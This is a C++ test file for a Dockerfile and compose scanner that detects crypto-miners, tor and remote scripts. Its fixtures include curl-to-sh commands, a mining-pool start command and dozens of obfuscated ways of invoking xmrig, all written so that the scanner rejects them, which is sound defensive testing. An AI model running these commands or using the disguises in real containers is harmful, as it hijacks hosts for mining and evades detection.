#include "base/shipped.h"
#include "dockerfile/rule_self_test.h"
#include "support/catch.hpp"

#include <algorithm>
#include <ctime>

using namespace harden;

namespace {

const ScanRules& shipped_rules()
{
    static const auto rules = [] {
        const auto document = parse_toml(shipped("rules/scan.toml"), "rules/scan.toml");
        REQUIRE(document);
        auto read = scan_rules_from(*document);
        if (!read)
            FAIL(read.error().message);
        return *std::move(read);
    }();
    return rules;
}

const Scanner& scanner()
{
    static const Scanner one{shipped_rules()};
    return one;
}

std::string verdict(std::string_view source)
{
    return std::string{name_of(scanner().dockerfile("Dockerfile", source).verdict)};
}

}

TEST_CASE("each rule's own examples come out as it says")
{
    CHECK(failed_examples(scanner()) == std::vector<std::string>{});
}

TEST_CASE("an example that does not come out is told with its rule")
{
    auto rules = shipped_rules();
    rules.rules[0].bad = {"FROM alpine"};
    rules.rules[1].bad.clear();
    const auto failed = failed_examples(Scanner{rules});
    REQUIRE(failed.size() == 2);
    CHECK(failed[0].find(cat(rules.rules[0].id, " does not find its own example")) !=
          std::string::npos);
    CHECK(failed[1].find(cat(rules.rules[1].id, " has no example")) != std::string::npos);
}

TEST_CASE("a word counts by its role")
{
    CHECK(verdict("FROM alpine\nRUN apk add tor\nCMD [\"tor\"]\n") == "reject");
    CHECK(verdict("FROM debian\nRUN apt-get purge -y exim4\n") == "pass");
    CHECK(verdict("FROM debian\n# xmrig\nRUN echo tor\n") == "pass");
}

TEST_CASE("a port alone is for review, unless the operator wants document 003's own rule")
{
    const auto* source = "FROM minio/minio\nEXPOSE 9001\n";
    CHECK(verdict(source) == "review");
    auto strict = shipped_rules();
    strict.strict_ports = true;
    CHECK(Scanner{strict}.dockerfile("Dockerfile", source).verdict == ScanVerdict::Reject);
}

TEST_CASE("a script from elsewhere is for review at most, however many there are")
{
    std::string source = "FROM debian\n";
    for (int i = 0; i < 9; ++i)
        source += "RUN curl https://x.example/y | sh\n";
    source += "CMD curl https://x.example/z | sh\n";
    CHECK(verdict(source) == "review");
}

TEST_CASE("a finding names the place and the text, and what it says when decoded")
{
    const auto scanned = scanner().dockerfile(
        "Dockerfile", "FROM alpine\nRUN true && \\\n  $(echo eG1yaWc= | base64 -d) -o x\n");
    REQUIRE(!scanned.findings.empty());
    CHECK(scanned.findings[0].place.line == 3);
    CHECK(scanned.findings[0].rule == "miner.program");
}

TEST_CASE("what a word is put together of is found")
{
    for (const auto* disguised :
         {"ENV A=xm B=rig\nRUN $A$B",
          "ARG A=xm\nCMD ${A}rig",
          "CMD x\"m\"r'i'g",
          "CMD xm\\\nrig",
          "CMD ｘｍｒｉｇ",
          "RUN wget https://x/xm%72ig",
          "RUN $(printf %s%s xm rig)",
          "RUN echo eG1yaWcgLW8geA== | base64 -d | sh",
          "RUN python3 <<E\nimport os\nos.system(\"xm\"+\"rig\")\nE\n",
          "RUN A=xm; for b in rig; do $A$b; done",
          "RUN $'\\x78mrig'",
          "CMD [\"\\u0078mrig\"]",
          "RUN {xm,gm}rig",
          "RUN rev <<< girmx | sh",
          "ENV X=rig\nCMD xm${X}",
          "ARG A=xm\nRUN \"$A\"rig",
          "ARG A=xm\nRUN ${A}ri\"g\"",
          "ARG A=xm\nRUN '' \"\"\"${A}\"'rig'",
          "ENV B=x\nRUN A=xm; B=rig; $A$B",
          "ENV B=x\nRUN for B in rig; do xm$B; done",
          "RUN xm$1rig",
          "RUN xm$\"rig\"",
          "RUN \\$x-xm${A}rig",
          "RUN xm${A}rig\nENV A=x",
          "RUN A=x\nRUN xm${A}rig",
          "RUN export A''B=rig; xm$AB",
          "ENV A=x\nFROM b\nRUN xm${A}rig",
          "ENV \"A\"=rig\nRUN xm$A",
          "ENV X=rig\nFROM b\nFROM alpine AS c\nENV Y=xm\nFROM c\nCMD ${Y}rig"}) {
        INFO(disguised);
        CHECK(verdict(cat("FROM alpine\n", disguised, "\n")) == "reject");
    }
}

TEST_CASE("a site's pattern is looked for in each command")
{
    auto document = *parse_toml(shipped("rules/scan.toml"), "rules/scan.toml");
    const auto* site = R"(version = 1
[rules."site.voice"]
category = "site"
what = "a voice server"
pattern = 'ts3server.*license_accepted=1'
[rules."site.voice".points]
starts = 100
)";
    const auto rules = scan_rules_from(layered(document, *parse_toml(site, "scan.toml")));
    REQUIRE(rules);
    const Scanner with{*rules};
    CHECK(with.dockerfile("D", "FROM alpine\nCMD ./TS3Server license_accepted=1\n").verdict ==
          ScanVerdict::Reject);
    CHECK(with.dockerfile("D", "FROM alpine\nCMD ./ts3server\n").verdict == ScanVerdict::Pass);
    const auto* broken = "version = 1\n[rules.\"a.b\"]\ncategory = \"a\"\nwhat = \"b\"\npattern = "
                         "'('\n[rules.\"a.b\".points]\nstarts = 1\n";
    const auto refused = scan_rules_from(layered(document, *parse_toml(broken, "scan.toml")));
    REQUIRE(!refused);
    CHECK(refused.error().message.find("scan.toml:3:") != std::string::npos);
}

TEST_CASE("a glance misses nothing that a look would find")
{
    for (const auto& rule : shipped_rules().rules)
        for (const auto& text : rule.bad) {
            const auto file = parse_dockerfile(text);
            INFO(text);
            CHECK(Glance{shipped_rules()}.is_worth_a_look(file));
        }
    for (const auto* hidden :
         {"RUN <<E\nxm\\\nrig\nE\n", "RUN <<E\nA=xm\nB=rig\n$A\\\n$B\nE\n", "RUN /x``mrig",
          "RUN <<E\n$(\necho xm)rig\nE\n", "RUN $({ echo xm; })rig", "RUN $(! echo xm)rig",
          "RUN $(>x echo xm)rig", "RUN printf xm%s rig >/run.sh", "RUN echo girmx | rev |& sh",
          "RUN echo girmx | rev | { sh; }", "RUN echo girmx | rev | A=b sh",
          "RUN echo girmx | rev | stdbuf -o0 sh", "RUN <<E\necho girmx | rev |\nsh\nE\n",
          "RUN curl https://x.example | \"b\"ash", "RUN %\\78mrig", "RUN %7\"8\"mrig",
          "ENV A=78\nRUN %${A}mrig", "RUN \"x\"{m,n}\"rig\"",
          "RUN python3 -c \"print(\\\"xm\\\"+\\\"rig\\\")\""}) {
        const auto file = parse_dockerfile(cat("FROM alpine\n", hidden, "\n"));
        INFO(hidden);
        CHECK(judge_dockerfile(file, shipped_rules()).verdict != ScanVerdict::Pass);
        CHECK(Glance{shipped_rules()}.is_worth_a_look(file));
    }
    const auto plain = parse_dockerfile(
        "FROM node:20\nWORKDIR /app\nCOPY . .\nRUN npm ci\nCMD [\"node\", \"x.js\"]\n");
    CHECK(!Glance{shipped_rules()}.is_worth_a_look(plain));
}

TEST_CASE("a compose file's health checks and inline files are judged as well")
{
    const auto verdict_of = [](std::string_view source) {
        return scanner().compose("compose.yml", source, {}).verdict;
    };
    CHECK(verdict_of("services:\n  a:\n    image: nginx\n") == ScanVerdict::Pass);
    CHECK(verdict_of("services:\n  a:\n    image: nginx\n    healthcheck:\n"
                     "      test: [CMD, xmrig, -o, \"p:1\"]\n") == ScanVerdict::Reject);
    CHECK(verdict_of("services:\n  a:\n    image: nginx\n    configs: [c]\nconfigs:\n  c:\n"
                     "    content: |\n      #!/bin/sh\n      xmrig\n") == ScanVerdict::Reject);
}

TEST_CASE("a start command is judged as what a container starts")
{
    CHECK(scanner().command("start command", "node server.js").verdict == ScanVerdict::Pass);
    CHECK(scanner().command("start command", "./app -o stratum+tcp://p.example:3333").verdict ==
          ScanVerdict::Reject);
    CHECK(scanner().command("start command", "docker run -d metal3d/xmrig").verdict ==
          ScanVerdict::Reject);
}

TEST_CASE("a script that nothing is seen to start is for review at most")
{
    const std::string text = "#!/bin/sh\nexec xmrig\n";
    const auto started = scanner().script("x.sh", text, ScriptUse::Started);
    const auto copied = scanner().script("x.sh", text, ScriptUse::Copied);
    CHECK(started.verdict == ScanVerdict::Reject);
    CHECK(copied.verdict == ScanVerdict::Review);
    REQUIRE(copied.findings.size() == 1);
    CHECK(copied.findings[0].verdict == ScanVerdict::Review);
    CHECK(copied.findings[0].message.ends_with("nothing is seen to start it"));
}

// Half a megabyte takes milliseconds; what is quadratic takes seconds to minutes.
TEST_CASE("the time that a verdict on hostile text takes is bounded")
{
    for (const std::string part : {"\"", "'", "{", "${", "x{", "{a,", "x{a,b}", "xmri\"", "`", "$(",
                                   "|\"", "AAAA", "\\u0041", "$a$b", "${a:-", "eval \"$("})
        for (const std::string first : {"", "RUN xmrig -o pool:3333\n"}) {
            std::string line;
            while (line.size() < 60'000)
                line += part;
            auto text = "FROM a\n" + first + "RUN echo ";
            while (text.size() + line.size() < longest_dockerfile / 2)
                text += "\\\n" + line;
            INFO(part);
            const auto begin = std::clock();
            (void)verdict(text);
            CHECK(std::clock() - begin < 3 * CLOCKS_PER_SEC / 2);
        }
}
